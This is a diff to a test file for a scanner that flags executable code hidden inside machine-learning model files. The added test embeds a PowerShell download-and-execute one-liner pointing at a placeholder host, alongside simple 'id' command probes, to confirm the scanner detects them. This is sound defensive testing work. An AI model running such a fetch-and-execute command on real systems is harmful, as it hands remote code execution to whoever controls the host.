@@ -38,6 +38,9 @@ test('code among bytes of no known format', () => {
   const code = bytes(odd, "\nimport os\nos.system('id')\n", odd);
   expect(found(code, 'model.engine')).toEqual(['MEDIUM program-in-model']);
   expect(found(code, 'shape_predictor.dat')).toEqual(['MEDIUM program-in-model']);
+  expect(found(bytes(odd, 'powershell -c iwr http://x.example/p.ps1 | iex', odd), 'm.dnn')).toEqual([
+    'MEDIUM program-in-model'
+  ]);
   expect(found(code, 'table.tbl')).toEqual([]);
   expect(found(bytes(odd, 'os.execute("id")', odd), 'model.t7')).toEqual(['MEDIUM program-in-model']);
   expect(found(bytes(odd, 'Copyright (C) Example, all rights reserved', odd), 'model.engine')).toEqual([]);
